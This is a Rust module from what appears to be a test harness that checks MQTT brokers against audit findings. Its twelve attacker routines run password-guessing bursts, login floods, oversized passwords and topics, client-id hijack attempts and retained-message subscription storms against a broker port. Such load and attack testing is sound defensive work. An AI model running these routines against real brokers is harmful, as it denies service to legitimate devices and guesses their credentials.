//! The hostile clients of the attack. Each exploits one finding of the audit, over and over, without waiting for
//! answers.
//!
//! They leave the machine some time, so that the delays of others come from the broker and not from busy processors.

use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::support::{Client, Connect, Version, reason};
use crate::world::{MALLORY, RIGHT, SLOW};

/// Retained messages that one subscription asks for (point 18).
pub const RETAINED: usize = 100;

/// Readers that a refused message has (point 10).
const READERS: usize = 50;

/// What an attacker may wait for an answer of the broker.
const LIMIT: Duration = Duration::from_secs(2);

type Play = fn(&Attack);

/// What each of them plays: a point of the audit, and against which brokers.
pub const PLAYS: [(usize, Play, &[Version]); 12] = [
    (6, guess_in_bursts, &Version::ALL),
    (7, guess_at_a_slow_hash, &Version::ALL),
    (8, keep_an_old_password, &Version::ALL),
    (9, keep_an_id_busy, &[Version::V2_1]),
    (10, publish_what_is_refused, &Version::ALL),
    (11, hang_up_while_parked, &[Version::V2_1]),
    (13, flood_with_logins, &Version::ALL),
    (14, use_names_that_are_slow, &Version::ALL),
    (15, lead_astray_who_looks_ahead, &[Version::V2_0_11, Version::V2_0_21]),
    (16, be_refused_under_other_ids, &Version::ALL),
    (17, use_many_topics, &Version::ALL),
    (18, subscribe_to_retained_messages, &Version::ALL),
];

/// The time from one connection of the attackers to the next. The system keeps 100 connections for Mosquitto to accept, and
/// whoever comes beyond has to come again after a second, whatever a plugin does. So they leave room for the honest ones in
/// the longest time that the broker may do something else.
const APART: Duration = Duration::from_millis(5);

/// The attack on one broker.
pub struct Attack<'a> {
    port: u16,
    over: &'a AtomicBool,
    next: AtomicUsize,
    next_connection: Mutex<Instant>,
}

impl<'a> Attack<'a> {
    pub fn new(port: u16, over: &'a AtomicBool) -> Self {
        Self { port, over, next: AtomicUsize::new(0), next_connection: Mutex::new(Instant::now()) }
    }

    /// Connects once it is time for that.
    fn connect(&self, connect: &Connect) -> Client {
        let now = Instant::now();
        let at = {
            let mut next = self.next_connection.lock().unwrap();
            let at = now.max(*next);
            *next = at + APART;
            at
        };
        thread::sleep(at - now);
        connect.send(self.port)
    }

    /// A number that nobody had yet.
    fn number(&self) -> usize {
        self.next.fetch_add(1, Ordering::Relaxed)
    }

    /// Plays something again and again, with pauses, until the attack is over.
    fn again(&self, pause: Duration, mut play: impl FnMut()) {
        while !self.over.load(Ordering::Relaxed) {
            play();
            thread::sleep(pause);
        }
    }

    /// Logs in with the account that the attackers have.
    fn log_in(&self, client_id: &str) -> Option<Client> {
        let mut client = self.connect(&Connect::v5(client_id).login(MALLORY, RIGHT));
        (client.connack(LIMIT) == Some(reason::SUCCESS)).then_some(client)
    }

    /// Tries to log in, and hangs up.
    fn try_in(&self, connect: &Connect) {
        let mut client = self.connect(connect);
        let _ = client.connack(LIMIT);
        client.hang_up();
    }

    /// Sends many logins as fast as [`APART`] allows, and hangs up after a while.
    fn burst(&self, count: usize, connect: impl Fn(usize) -> Connect) {
        let crowd: Vec<_> = (0..count).map(|_| self.connect(&connect(self.number()))).collect();
        thread::sleep(SECOND / 4);
        crowd.into_iter().for_each(Client::hang_up);
    }
}

const SECOND: Duration = Duration::from_secs(1);

fn guess_in_bursts(attack: &Attack) {
    attack.again(SECOND, || {
        attack.burst(60, |number| {
            Connect::v5(format!("guess-{number}")).login("honest-0", format!("wrong-{number}"))
        });
    });
}

fn guess_at_a_slow_hash(attack: &Attack) {
    attack.again(SECOND, || {
        attack.burst(30, |number| {
            Connect::v5(format!("hash-{number}")).login("command", format!("wrong-{number}"))
        });
    });
}

fn keep_an_old_password(attack: &Attack) {
    attack.again(SECOND / 5, || attack.try_in(&Connect::v5("old-device").login("fleet", "old")));
}

fn keep_an_id_busy(attack: &Attack) {
    attack.again(SECOND / 100, || {
        let name = format!("busy-{}", attack.number());
        attack.try_in(&Connect::v5("honest-id-1").login(name, "wrong"));
    });
}

fn publish_what_is_refused(attack: &Attack) {
    let mut readers: Vec<_> =
        (0..READERS).filter_map(|number| attack.log_in(&format!("reader-{number}"))).collect();
    for reader in &mut readers {
        let subscribe = reader.subscribe_packet(&[("common/news/#", 0)]);
        reader.send(&subscribe);
    }
    let mut client = None;
    attack.again(SECOND / 20, || {
        let Some(writer) = &mut client else {
            client = attack.log_in("writer");
            return;
        };
        let topic = format!("common/news/{}/{}", attack.number(), "x".repeat(10_000));
        writer.publish(topic, "");
        if writer.try_ping(LIMIT).is_none() {
            client = None;
        }
    });
}

fn hang_up_while_parked(attack: &Attack) {
    let password = vec![1; 60_000];
    attack.again(SECOND / 20, || {
        let name = format!("parked-{}", attack.number());
        drop(attack.connect(&Connect::v5(&name).login(&name, &password)));
    });
}

fn flood_with_logins(attack: &Attack) {
    attack.again(SECOND / 2, || {
        attack.burst(20, |number| {
            Connect::v5(format!("flood-{number}")).login(format!("made-up-{number}"), "wrong")
        });
    });
}

fn use_names_that_are_slow(attack: &Attack) {
    attack.again(SECOND, || {
        attack.burst(1, |number| Connect::v5(format!("slow-{number}")).login(format!("{SLOW}{number}"), "x"));
    });
}

/// The broker refuses these by itself: who keeps a session needs an id in MQTT 3.1.1.
fn lead_astray_who_looks_ahead(attack: &Attack) {
    attack.again(SECOND / 5, || {
        attack.burst(20, |number| Connect::v3("").login(format!("astray-{number}"), "x").durable());
    });
}

fn be_refused_under_other_ids(attack: &Attack) {
    attack.again(SECOND / 10, || {
        let number = attack.number();
        let id = format!("honest-id-{}", 2 + number % 4);
        attack.try_in(&Connect::v5(id).login(format!("other-{number}"), "wrong"));
    });
}

fn use_many_topics(attack: &Attack) {
    let mut client = None;
    attack.again(SECOND / 10, || {
        let Some(writer) = &mut client else {
            client = attack.log_in("many-topics");
            return;
        };
        for _ in 0..10 {
            writer.publish(format!("{MALLORY}/{}", attack.number()), "");
        }
        if writer.try_ping(LIMIT).is_none() {
            client = None;
        }
    });
}

fn subscribe_to_retained_messages(attack: &Attack) {
    attack.again(2 * SECOND, || {
        // Under another id each time, so that nothing is remembered.
        if let Some(mut reader) = attack.log_in(&format!("retained-{}", attack.number())) {
            let subscribe = reader.subscribe_packet(&[("common/retained/#", 0)]);
            reader.send(&subscribe);
            let _ = reader.try_ping(LIMIT);
        }
    });
}
